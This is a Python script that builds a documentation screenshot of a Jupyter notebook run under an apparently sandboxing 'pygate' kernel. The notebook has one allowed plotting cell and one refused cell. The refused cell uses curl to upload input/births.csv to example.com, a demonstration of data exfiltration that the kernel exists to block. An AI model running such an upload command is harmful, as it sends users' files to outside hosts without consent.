#!/usr/bin/python3
"""docs/images/jupyter_notebook.png: a notebook run through `pygate kernel`,
rendered by `jupyter nbconvert --to html` and photographed by headless Chromium.

Usage: PYGATE=build/release/pygate scripts/jupyter-screenshot.py [OUTPUT.png]

The kernelspec is installed into a temporary prefix (JUPYTER_PATH points at
it); the notebook has an allowed cell that draws a figure and a refused one.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
CELLS = [
    ("markdown", "## Births by year, under `pygate kernel` (profile `plotting`)"),
    ("code", "import pandas as pd\nimport matplotlib.pyplot as plt\n\n"
             "births = pd.DataFrame({'year': [2019, 2020, 2021, 2022], 'births': [812, 790, 805, 798]})\n"
             "births.plot(x='year', y='births', marker='o', xticks=births['year'], figsize=(5, 2.5))\n"
             "plt.title('births per year')\nbirths.describe().loc[['mean', 'min', 'max']]"),
    ("code", "import subprocess\nsubprocess.run(['curl', 'https://example.com/upload', '-d', '@input/births.csv'])"),
]


def main() -> int:
    output = Path(sys.argv[1]) if len(sys.argv) > 1 else ROOT / "docs" / "images" / "jupyter_notebook.png"
    import nbformat
    from nbclient import NotebookClient

    with tempfile.TemporaryDirectory() as folder:
        work = Path(folder)
        env = {**os.environ, "PYTHONPATH": str(ROOT / "python" / "src")}
        subprocess.run([sys.executable, "-m", "pygate", "kernel", "install", "--prefix", str(work / "prefix"),
                        "--profile", "plotting"], check=True, env=env)
        os.environ["JUPYTER_PATH"] = str(work / "prefix" / "share" / "jupyter")
        book = nbformat.v4.new_notebook(metadata={"kernelspec": {"name": "pygate-plotting",
                                                                 "display_name": "Python 3 (pygate plotting)",
                                                                 "language": "python"}})
        book.cells = [nbformat.v4.new_markdown_cell(text) if kind == "markdown" else nbformat.v4.new_code_cell(text)
                      for kind, text in CELLS]
        NotebookClient(book, timeout=180, startup_timeout=120, allow_errors=True).execute()
        notebook = work / "births.ipynb"
        nbformat.write(book, notebook)
        subprocess.run(["jupyter", "nbconvert", "--to", "html", str(notebook)], check=True)
        with tempfile.TemporaryDirectory() as profile:
            subprocess.run([shutil.which("chromium") or "chromium", "--headless", "--no-sandbox", "--disable-gpu",
                            "--no-first-run", "--disable-background-networking", "--disable-component-update",
                            "--hide-scrollbars", f"--user-data-dir={profile}", f"--screenshot={work / 'shot.png'}",
                            "--window-size=1000,1060", (work / "births.html").as_uri()],
                           check=True, capture_output=True, timeout=120)
        # A palette of 64 colours keeps the picture readable and the repository small.
        from PIL import Image

        Image.open(work / "shot.png").convert("RGB").quantize(colors=64).save(output, optimize=True)
    print(f"wrote {output} ({output.stat().st_size} bytes)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
